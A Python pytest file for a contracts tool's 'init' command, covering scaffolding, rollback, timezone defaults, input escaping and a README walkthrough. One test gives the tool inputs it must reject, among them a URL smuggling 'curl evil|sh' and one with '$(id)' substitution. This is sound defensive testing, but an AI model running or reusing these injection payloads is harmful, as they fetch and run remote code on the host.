"""pactwatch init: a new contracts repository that validates and builds at once, and the first hour from the README."""

from __future__ import annotations

import importlib.util
import io
import os
import shlex
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import date, time
from pathlib import Path
from types import ModuleType

import jsonschema
import pytest
import yaml

from pactwatch import __version__, scaffold
from pactwatch.commands.init import default_language, default_timezone, machine_timezone
from tests.conftest import REPO_ROOT, CliResult

Run = Callable[..., CliResult]
FLAGS = ("--language", "zh", "--timezone", "Asia/Shanghai", "--currency", "CNY", "--name", "示例公司")


def _files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def umask027() -> Iterator[int]:
    before = os.umask(0o027)  # stricter than the usual 022, so a file written 0644 regardless would show
    try:
        yield 0o027
    finally:
        os.umask(before)


@pytest.mark.parametrize("language", ["zh", "en"])
def test_init_writes_a_portfolio_that_validates_with_settings_the_schema_accepts(run_cli: Run, tmp_path: Path, language: str) -> None:
    target = tmp_path / "contracts-repo"
    result = run_cli("init", target, "--language", language, "--timezone", "Europe/Berlin", "--currency", "eur", "--name", "Acme")
    assert result.code == 0, result.err
    assert sorted(_files(target)) == sorted(scaffold.TARGETS)
    settings = yaml.safe_load((target / "pactwatch.yml").read_text(encoding="utf-8"))
    schema = yaml.safe_load((REPO_ROOT / "schema" / "settings.schema.json").read_text(encoding="utf-8"))
    jsonschema.validate(settings, schema)
    assert (settings["language"], settings["timezone"], settings["currency"]) == (language, "Europe/Berlin", "EUR")
    for command in (("validate", "--strict"), ("codeowners", "--check"), ("check",)):
        outcome = run_cli(*command, "--root", target)
        assert outcome.code == 0, (command, outcome.out, outcome.err)


@pytest.mark.parametrize("language", ["zh", "en"])
def test_every_setting_is_there_with_a_comment(language: str) -> None:
    text = scaffold.render(scaffold.Answers(language, "Asia/Shanghai", "CNY", "Acme", date(2026, 1, 1)))["pactwatch.yml"]
    schema = yaml.safe_load((REPO_ROOT / "schema" / "settings.schema.json").read_text(encoding="utf-8"))
    lines = text.splitlines()
    for key in schema["properties"]:
        at = next((i for i, line in enumerate(lines) if line.lstrip("# ").startswith(f"{key}:")), None)
        assert at is not None, f"{key} is not in pactwatch.yml"
        assert lines[at - 1].startswith("#"), f"{key} has no comment above it"
    chinese = sum("\u4e00" <= char <= "\u9fff" for char in text)
    assert (chinese > 100) if language == "zh" else (chinese == 0)


def test_init_refuses_to_overwrite_and_writes_nothing(run_cli: Run, tmp_path: Path) -> None:
    (tmp_path / ".github").mkdir()
    (tmp_path / ".github" / "CODEOWNERS").write_text("* @someone\n", encoding="utf-8")
    (tmp_path / "README.md").write_text("mine\n", encoding="utf-8")
    before = _files(tmp_path)
    result = run_cli("init", tmp_path, *FLAGS)
    assert result.code == 1
    assert "README.md" in result.err and ".github/CODEOWNERS" in result.err and "（未写入任何文件）" in result.err  # --language zh
    assert _files(tmp_path) == before


def test_a_file_where_a_folder_goes_is_refused_before_anything_is_written(run_cli: Run, tmp_path: Path) -> None:
    (tmp_path / "contracts").write_text("not a folder\n", encoding="utf-8")
    result = run_cli("init", tmp_path, *FLAGS)
    assert result.code == 1 and "contracts" in result.err
    assert _files(tmp_path) == {"contracts": b"not a folder\n"}


def test_a_write_failing_midway_takes_back_what_was_written(run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from pactwatch import fileio

    real = fileio.write_atomic_text
    target = tmp_path / "new"

    def disk_full_at_gitignore(path: Path, text: str, **kwargs: bool) -> None:
        if path == target / ".gitignore":
            raise OSError(errno.ENOSPC, "No space left on device")
        real(path, text, **kwargs)

    monkeypatch.setattr(fileio, "write_atomic_text", disk_full_at_gitignore)  # the one fault a test cannot make real as root
    result = run_cli("init", target, *FLAGS)
    assert result.code == 1 and "No space left on device" in result.err and "（未写入任何文件）" in result.err
    assert list(tmp_path.rglob("*")) == []


def test_init_checks_its_answers(run_cli: Run, tmp_path: Path) -> None:
    assert run_cli("init", tmp_path, "--language", "en", "--timezone", "Mars/Olympus", "--currency", "USD").code == 2
    assert run_cli("init", tmp_path, "--language", "en", "--timezone", "UTC", "--currency", "dollars?").code == 2
    assert run_cli("init", tmp_path, *FLAGS[:-1], "Acme\nEvil: true").code == 2
    assert _files(tmp_path) == {}


def test_a_name_with_yaml_and_markdown_syntax_stays_text(run_cli: Run, tmp_path: Path) -> None:
    name = 'Acme: "#1" <b>& [co]</b>'
    assert run_cli("init", tmp_path, "--language", "en", "--timezone", "UTC", "--currency", "USD", "--name", name).code == 0
    assert yaml.safe_load((tmp_path / "mkdocs.yml").read_text(encoding="utf-8"))["site_name"] == f"{name} contract progress"
    heading = (tmp_path / "README.md").read_text(encoding="utf-8").splitlines()[0]
    assert "<b>" not in heading and "&lt;b&gt;" in heading
    assert run_cli("validate", "--root", tmp_path, "--strict").code == 0


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_on_a_terminal_it_asks_the_three_questions_again_until_answered_well(
    run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", _Terminal("en\nMars/Olympus\nEurope/Berlin\nEUR\n"))
    result = run_cli("init", tmp_path, "--name", "Acme")
    assert result.code == 0, result.err
    assert result.out.count("Time zone") == 2 and "not an IANA time zone" in result.out + result.err
    settings = yaml.safe_load((tmp_path / "pactwatch.yml").read_text(encoding="utf-8"))
    assert (settings["language"], settings["timezone"], settings["currency"]) == ("en", "Europe/Berlin", "EUR")


def test_with_every_flag_it_asks_nothing_even_on_a_terminal(run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", _Terminal(""))
    result = run_cli("init", tmp_path, *FLAGS)
    assert result.code == 0, result.err
    assert "Language /" not in result.out and "Time zone /" not in result.out and "Currency /" not in result.out


def test_without_flags_nor_a_terminal_the_defaults_come_from_the_machine(
    run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LANG", "en_GB.UTF-8")
    monkeypatch.setenv("TZ", "Europe/London")
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    result = run_cli("init", tmp_path)
    assert result.code == 0, result.err
    settings = yaml.safe_load((tmp_path / "pactwatch.yml").read_text(encoding="utf-8"))
    assert (settings["language"], settings["timezone"], settings["currency"]) == ("en", "Europe/London", "USD")
    assert "time zone Europe/London ($TZ)" in result.out  # said, never silent


def test_time_zone_defaults(tmp_path: Path) -> None:
    link = tmp_path / "localtime"
    link.symlink_to("/usr/share/zoneinfo/America/Sao_Paulo")
    assert default_timezone("zh", {}, link) == ("Asia/Shanghai", "语言 zh")
    assert default_timezone("en", {}, link) == ("America/Sao_Paulo", str(link))
    assert machine_timezone({"TZ": ":Asia/Tokyo"}, link) == ("Asia/Tokyo", "$TZ")
    assert machine_timezone({"TZ": "CST-8"}, link) == ("America/Sao_Paulo", str(link))  # a POSIX rule names no zone
    assert machine_timezone({}, tmp_path / "missing") is None  # then init asks for --timezone instead of using UTC
    assert default_language({"LANG": "zh_CN.UTF-8"}) == "zh" and default_language({"LC_ALL": "C", "LANG": "zh_CN"}) == "en"


def test_schedules_keep_their_local_hour() -> None:
    assert scaffold.cron(time(8, 17), "Asia/Shanghai", 2026) == "17 0 * * *"
    assert scaffold.cron(time(6, 7), "Asia/Shanghai", 2026) == "7 22 * * *"
    assert scaffold.cron(time(8, 30), "Asia/Kolkata", 2026) == "0 3 * * *"
    assert scaffold.cron(time(8, 17), "America/New_York", 2026) == "17 13 * * *"  # standard time, EST
    assert scaffold.offset_label("Asia/Kolkata", 2026) == "UTC+5:30"
    assert "UTC-4 in summer time" in scaffold.offset_label("America/New_York", 2026)
    assert "UTC+11 in summer time" in scaffold.offset_label("Australia/Sydney", 2026)  # summer in January


def test_the_workflows_are_this_repositorys_installing_the_running_version_from_git() -> None:
    files = scaffold.render(scaffold.Answers("zh", "Asia/Shanghai", "CNY", "Acme", date(2026, 1, 1)))
    install = f'python -m pip install "pactwatch @ git+{scaffold.REPOSITORY_URL}@v{__version__}"'
    for path in sorted((REPO_ROOT / ".github" / "workflows").glob("*.yml")):
        ours = path.read_text(encoding="utf-8").replace("python -m pip install .", install)
        assert files[f".github/workflows/{path.name}"] == ours, f"templates/init/workflows/{path.name}.j2 differs from {path}"
    assert f"rev: v{__version__}" in files[".pre-commit-config.yaml"]


def test_pactwatch_from_points_the_workflows_and_the_hook_at_a_mirror(run_cli: Run, tmp_path: Path) -> None:
    mirror = "https://git.acme.example/tools/pactwatch"
    result = run_cli("init", tmp_path / "repo", *FLAGS, "--pactwatch-from", mirror + "/")
    assert result.code == 0, result.err
    files = {name: text.decode("utf-8") for name, text in _files(tmp_path / "repo").items()}
    for name in (n for n in files if n.startswith(".github/workflows/")):
        assert f'python -m pip install "pactwatch @ git+{mirror}@v{__version__}"' in files[name], name
    assert f"  - repo: {mirror}\n    rev: v{__version__}\n" in files[".pre-commit-config.yaml"]
    assert f'pip install "pactwatch @ git+{mirror}@v{__version__}"' in files["README.md"]
    assert not [name for name, text in files.items() if scaffold.REPOSITORY_URL in text]
    assert run_cli("validate", "--strict", "--root", tmp_path / "repo").code == 0


@pytest.mark.parametrize(
    "url",
    [
        'https://x.example/p"; curl evil|sh; "',
        "https://x.example/p$(id)",
        "git@github.com:acme/pactwatch",
        "https://x.example/p@v1",
        "http://x.example/p",
    ],
)
def test_pactwatch_from_takes_only_a_plain_git_address(run_cli: Run, tmp_path: Path, url: str) -> None:
    result = run_cli("init", tmp_path / "repo", *FLAGS, "--pactwatch-from", url)
    assert result.code == 2 and "is not a git address to install from" in result.err, result.err
    assert not (tmp_path / "repo").exists()


def _check_version() -> ModuleType:
    spec = importlib.util.spec_from_file_location("check_version", REPO_ROOT / "scripts" / "check-version.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_versions_are_in_step() -> None:
    done = subprocess.run([sys.executable, "scripts/check-version.py"], cwd=REPO_ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_the_version_check_catches_a_stale_line() -> None:
    check = _check_version()
    stale = f'pip install "pactwatch @ git+{scaffold.REPOSITORY_URL}@v0.0.9"\n  rev: v0.0.9\n'
    assert len(check.text_problems("README.md", stale, "0.1.0", scaffold.REPOSITORY_URL)) == 2
    elsewhere = 'pip install "pactwatch @ git+https://github.com/someone/pactwatch@v0.1.0"\n'
    assert check.text_problems("README.md", elsewhere, "0.1.0", scaffold.REPOSITORY_URL) != []


def five_minutes() -> list[str]:
    """The commands of the README's "Your own portfolio in five minutes"."""
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Your own portfolio in five minutes", 1)[1]
    block = section.split("```sh\n", 1)[1].split("```", 1)[0]
    return [line for line in block.splitlines() if line.strip()]


def test_your_own_portfolio_in_five_minutes(run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, umask027: int) -> None:
    commands = five_minutes()
    assert [c.split()[:2] for c in commands if c.startswith("pactwatch")][:2] == [["pactwatch", "init"], ["pactwatch", "new"]]
    monkeypatch.chdir(tmp_path)
    status = ""
    for line in commands:
        words = shlex.split(line)
        if words[0] == "cd":
            monkeypatch.chdir(words[1])
        elif words[0] == "pactwatch":
            result = run_cli(*words[1:])
            assert result.code == 0, (line, result.out, result.err)
        elif words[0] == "git":
            status = subprocess.run(words, capture_output=True, text=True, check=True).stdout
        else:
            pytest.fail(f"the README's five minutes run {line!r}, which this test does not know")
    repo = tmp_path / "my-contracts"
    mine = {*scaffold.TARGETS, "contracts/sales/C-1.yaml"}
    listed = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=repo, capture_output=True, text=True, check=True)
    assert {line[3:] for line in listed.stdout.splitlines()} == mine, "git status lists a generated file"
    assert status  # the README's own `git status` ran
    assert (repo / "site" / "index.html").is_file()
    commands_after = (("feeds",), ("report",), ("export",), ("alerts", "--dry-run", "--offline"), ("remind", "--dry-run"))
    for command in (*commands_after, ("check", "--fail-on", "never")):
        result = run_cli(*command)
        assert result.code == 0, (command, result.out, result.err)
    listed = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=repo, capture_output=True, text=True, check=True)
    assert {line[3:] for line in listed.stdout.splitlines()} == mine
    modes = {p.relative_to(repo).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in repo.rglob("*") if ".git" not in p.parts}
    expected = {True: 0o666 & ~umask027, False: 0o777 & ~umask027}
    assert {path: oct(mode) for path, mode in modes.items() if mode != expected[(repo / path).is_file()]} == {}
